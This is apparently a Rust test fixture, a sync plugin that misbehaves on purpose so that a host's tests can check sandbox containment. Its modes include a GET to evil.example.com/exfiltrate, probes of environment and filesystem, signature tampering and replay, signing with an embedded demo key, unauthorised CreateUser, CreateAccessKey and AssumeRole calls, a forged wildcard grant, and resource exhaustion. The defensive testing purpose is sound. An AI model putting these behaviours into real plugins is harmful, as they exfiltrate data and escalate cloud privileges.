//! A syncer that misbehaves on purpose, so the host's tests can check that each kind of
//! misbehaviour is contained. Never shipped.
//!
//! Called directly, the page token picks the misbehaviour. In a sync its type is nested
//! under the account, and the account's alias (set by the test's tenant) picks it.

use ramsync_guest::bindings::ramsync::connector::{auth, types::HttpRequest};
use ramsync_guest::{
    Entitlement, EntitlementPage, Error, Grant, GrantPage, Product, Resource, ResourcePage,
    ResourceRef, Rpc, TypeInfo, no_entitlements, no_grants, resource_ref,
};

struct Misbehaving;

/// The demo key of the local API, embedded as a rogue plugin would embed its own.
const OWN_KEY_ID: &str = "LTAI5tRamsyncDemoKeyId";
const OWN_KEY_SECRET: &str = "RamsyncDemoSecretForTheLocalApiOnly";

fn page(items: Vec<Resource>, next: Option<&str>) -> ResourcePage {
    ResourcePage {
        items,
        next_page_token: next.map(str::to_string),
    }
}

fn item(id: &str, parent: Option<ResourceRef>) -> Resource {
    Resource {
        ref_: resource_ref("misbehaving", id),
        name: id.to_string(),
        display_name: id.to_string(),
        parent,
        attributes: Vec::new(),
    }
}

/// A resource that remembers the misbehaviour, for the entitlements and grants calls.
fn marked(id: &str, parent: Option<ResourceRef>, mode: &str) -> Resource {
    let mut r = item(id, parent);
    r.attributes.push(("mode".into(), mode.into()));
    r
}

fn ims_host() -> Result<String, Error> {
    let base = ramsync_guest::bindings::ramsync::connector::endpoints::base_url("ims")
        .ok_or_else(|| Error::InvalidInput("no ims endpoint".into()))?;
    Ok(base
        .split_once("://")
        .map(|(_, h)| h.trim_end_matches('/').to_string())
        .unwrap_or_default())
}

/// An IMS ListUsers request as the guest crate builds one.
fn list_users_request(max_items: &str) -> Result<HttpRequest, Error> {
    let host = ims_host()?;
    Ok(HttpRequest {
        method: "POST".into(),
        host: host.clone(),
        path: "/".into(),
        query: vec![("MaxItems".into(), max_items.into())],
        headers: vec![
            ("host".into(), host),
            ("x-acs-action".into(), "ListUsers".into()),
            ("x-acs-version".into(), Product::IMS.version.into()),
        ],
        body: Vec::new(),
    })
}

/// Sends a request with these headers, query and body; Ok(status) when it was sent.
fn send(headers: &[(String, String)], query: &str, body: Vec<u8>) -> Result<u16, String> {
    let host = ims_host().map_err(|e| format!("{e:?}"))?;
    let mut wire = Vec::new();
    for (k, v) in headers.iter().filter(|(k, _)| k != "host") {
        let name = waki::header::HeaderName::from_bytes(k.as_bytes()).map_err(|e| e.to_string())?;
        wire.push((name, v.clone()));
    }
    waki::Client::new()
        .post(&format!("http://{host}/?{query}"))
        .headers(wire)
        .body(body)
        .send()
        .map(|r| r.status_code())
        .map_err(|e| e.to_string())
}

/// Asks the host to sign `request`, then sends it altered as `how` says.
fn signed_then(how: &str) -> Result<ResourcePage, Error> {
    let request = list_users_request("1")?;
    let signed = auth::sign(&request)?;
    let mut headers: Vec<(String, String)> = request.headers.clone();
    headers.extend(signed);
    let query = ramsync_acs3::canonical_query(&request.query);
    let outcome = match how {
        "tamper-query" => send(&headers, "MaxItems=2", Vec::new()),
        "tamper-action" => {
            for h in headers.iter_mut().filter(|(k, _)| k == "x-acs-action") {
                h.1 = "ListGroups".into();
            }
            send(&headers, &query, Vec::new())
        }
        "tamper-body" => send(&headers, &query, b"Action=CreateUser".to_vec()),
        "replay" => {
            send(&headers, &query, Vec::new())
                .map_err(|e| Error::InvalidInput(format!("first send: {e}")))?;
            send(&headers, &query, Vec::new())
        }
        other => return Err(Error::InvalidInput(format!("unknown mode {other}"))),
    };
    Err(Error::InvalidInput(format!("{how} sent: {outcome:?}")))
}

/// Signs a ListUsers request with a key of its own and sends it.
fn own_key() -> Result<ResourcePage, Error> {
    let request = list_users_request("1")?;
    let now = time::OffsetDateTime::now_utc();
    let date = now
        .format(time::macros::format_description!(
            "[year]-[month]-[day]T[hour]:[minute]:[second]Z"
        ))
        .map_err(|e| Error::InvalidInput(e.to_string()))?;
    let mut headers = request.headers.clone();
    headers.push(("x-acs-date".into(), date));
    headers.push((
        "x-acs-signature-nonce".into(),
        format!("rogue-{}", now.unix_timestamp_nanos()),
    ));
    let hashed = ramsync_acs3::hashed_payload(b"");
    headers.push(("x-acs-content-sha256".into(), hashed.clone()));
    let signature = ramsync_acs3::sign(
        &ramsync_acs3::SigningInput {
            method: "POST",
            path: "/",
            query: &request.query,
            headers: &headers,
            hashed_payload: &hashed,
        },
        OWN_KEY_ID,
        OWN_KEY_SECRET,
    );
    headers.push(("authorization".into(), signature.authorization));
    let outcome = send(
        &headers,
        &ramsync_acs3::canonical_query(&request.query),
        Vec::new(),
    );
    Err(Error::InvalidInput(format!("own-key sent: {outcome:?}")))
}

fn by_token(token: &str) -> Result<ResourcePage, Error> {
    match token {
        "trap" => panic!("misbehaving plugin panics on purpose"),
        "loop" => {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        "alloc" => {
            let mut hog: Vec<Vec<u8>> = Vec::new();
            loop {
                hog.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hog);
            }
        }
        // How many calls this instance has answered, this one included, as a resource id:
        // the host keeps an instance between the calls of one account's sync.
        "instance-calls" => {
            static CALLS: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
            let n = CALLS.fetch_add(1, std::sync::atomic::Ordering::Relaxed) + 1;
            Ok(page(vec![item(&n.to_string(), None)], None))
        }
        // A fixed 32 MiB, then a normal answer.
        "alloc-32m" => {
            let hog = vec![1u8; 32 << 20];
            std::hint::black_box(&hog);
            Ok(page(Vec::new(), None))
        }
        "evil-host" => {
            let result = waki::Client::new()
                .get("https://evil.example.com/exfiltrate")
                .send();
            Err(Error::InvalidInput(format!(
                "reached evil.example.com: {}",
                result.is_ok()
            )))
        }
        "snoop" => {
            let env = std::env::vars().count();
            let args = std::env::args().count();
            let fs = std::fs::read_dir("/").is_ok() || std::fs::read_dir(".").is_ok();
            let net = std::net::TcpStream::connect(("127.0.0.1", 1)).is_ok()
                || std::net::TcpStream::connect("localhost:80")
                    .map(|_| true)
                    .unwrap_or(false);
            Err(Error::InvalidInput(format!(
                "env={env} args={args} fs={fs} net={net}"
            )))
        }
        "undeclared-product" => {
            // Declared for ims only: sends a RAM request to the IMS endpoint.
            let sneaky = Product {
                name: "ims",
                version: Product::RAM.version,
            };
            Rpc::new(sneaky)?.call("ListPolicies", &[])?;
            Err(Error::InvalidInput(
                "RAM answered a plugin granted only IMS".into(),
            ))
        }
        // Waits on a host clock: time that is not the plugin's CPU.
        "sleep" => {
            std::thread::sleep(std::time::Duration::from_millis(1500));
            Ok(page(Vec::new(), None))
        }
        // One signed read, however slow the API answers.
        "list-users" => {
            Rpc::new(Product::IMS)?.call("ListUsers", &[("MaxItems", "1")])?;
            Ok(page(Vec::new(), None))
        }
        "write" => {
            Rpc::new(Product::IMS)?.call("CreateUser", &[("UserPrincipalName", "rogue@x")])?;
            Err(Error::InvalidInput("CreateUser was signed and sent".into()))
        }
        "create-access-key" => {
            let keys = Rpc::new(Product::IMS)?.call("CreateAccessKey", &[])?;
            Err(Error::InvalidInput(format!(
                "got a new key: {}",
                keys.root().str("RequestId")?
            )))
        }
        "assume-role" => {
            Rpc::new(Product::STS)?.call(
                "AssumeRole",
                &[
                    ("RoleArn", "acs:ram::1234567890123456:role/admins"),
                    ("RoleSessionName", "rogue"),
                ],
            )?;
            Err(Error::InvalidInput("AssumeRole was signed and sent".into()))
        }
        "sign-foreign-host" => {
            let mut request = list_users_request("1")?;
            request.host = "ims.aliyuncs.com".into();
            request.headers[0].1 = "ims.aliyuncs.com".into();
            auth::sign(&request)?;
            Err(Error::InvalidInput(
                "a request for another host was signed".into(),
            ))
        }
        "own-key" => own_key(),
        // Asks for signatures and never sends the requests.
        "hoard-signatures" => {
            for _ in 0..100 {
                auth::sign(&list_users_request("1")?)?;
            }
            Err(Error::InvalidInput("100 signatures were made".into()))
        }
        how @ ("tamper-query" | "tamper-action" | "tamper-body" | "replay") => signed_then(how),
        other => Err(Error::InvalidInput(format!("unknown mode {other}"))),
    }
}

/// In a sync: the account alias picks the misbehaviour.
fn by_parent(parent: &Resource, token: Option<&str>) -> Result<ResourcePage, Error> {
    let here = Some(parent.ref_.clone());
    match (parent.name.as_str(), token) {
        (mode @ ("foreign-grant" | "foreign-entitlement"), _) => {
            Ok(page(vec![marked("r1", here, mode)], None))
        }
        ("foreign-parent", _) => Ok(page(
            vec![item("r1", Some(resource_ref("user", "someone-else")))],
            None,
        )),
        ("huge-page", _) => Ok(page(
            (0..10_001)
                .map(|i| item(&format!("r{i}"), here.clone()))
                .collect(),
            None,
        )),
        // A cycle of two tokens: never the same token twice in a row.
        ("cycle", None) => Ok(page(vec![item("r1", here)], Some("a"))),
        ("cycle", Some("a")) => Ok(page(Vec::new(), Some("b"))),
        ("cycle", Some("b")) => Ok(page(Vec::new(), Some("a"))),
        // A fresh token on every page, forever.
        ("endless", t) => {
            let n: u64 = t.and_then(|t| t.parse().ok()).unwrap_or(0);
            Ok(page(Vec::new(), Some(&(n + 1).to_string())))
        }
        (_, Some(t)) => by_token(t),
        (_, None) => by_token("trap"),
    }
}

impl ramsync_guest::Syncer for Misbehaving {
    fn resource_type() -> TypeInfo {
        TypeInfo {
            id: "misbehaving".into(),
            display_name: "Misbehaving".into(),
            parent_type: Some("account".into()),
            skip_entitlements_and_grants: false,
            provisions: Vec::new(),
            enriches: false,
        }
    }

    fn list_resources(
        parent: Option<Resource>,
        page_token: Option<String>,
    ) -> Result<ResourcePage, Error> {
        match &parent {
            Some(p) => by_parent(p, page_token.as_deref()),
            None => by_token(page_token.as_deref().unwrap_or("trap")),
        }
    }

    fn entitlements(
        resource: Resource,
        _page_token: Option<String>,
    ) -> Result<EntitlementPage, Error> {
        if ramsync_guest::attribute(&resource, "mode") != Some("foreign-entitlement") {
            return Ok(no_entitlements());
        }
        Ok(EntitlementPage {
            items: vec![Entitlement {
                resource: resource_ref("group", "admins-group-id"),
                slug: "member".into(),
                display_name: "Member".into(),
                grantable_to: vec!["user".into()],
            }],
            next_page_token: None,
        })
    }

    fn grants(resource: Resource, _page_token: Option<String>) -> Result<GrantPage, Error> {
        if ramsync_guest::attribute(&resource, "mode") != Some("foreign-grant") {
            return Ok(no_grants());
        }
        // A grant on a role the plugin does not sync, pre-empting the real row.
        Ok(GrantPage {
            items: vec![Grant {
                resource: resource_ref("role", "victim-role-id"),
                entitlement: "assume".into(),
                principal: resource_ref("account", "*"),
                principal_name: "*".into(),
                attributes: vec![("external_id_required".into(), "true".into())],
            }],
            next_page_token: None,
            resource_attributes: Vec::new(),
        })
    }
}

ramsync_guest::no_provisioning!(Misbehaving);
ramsync_guest::bindings::export_syncer!(Misbehaving);
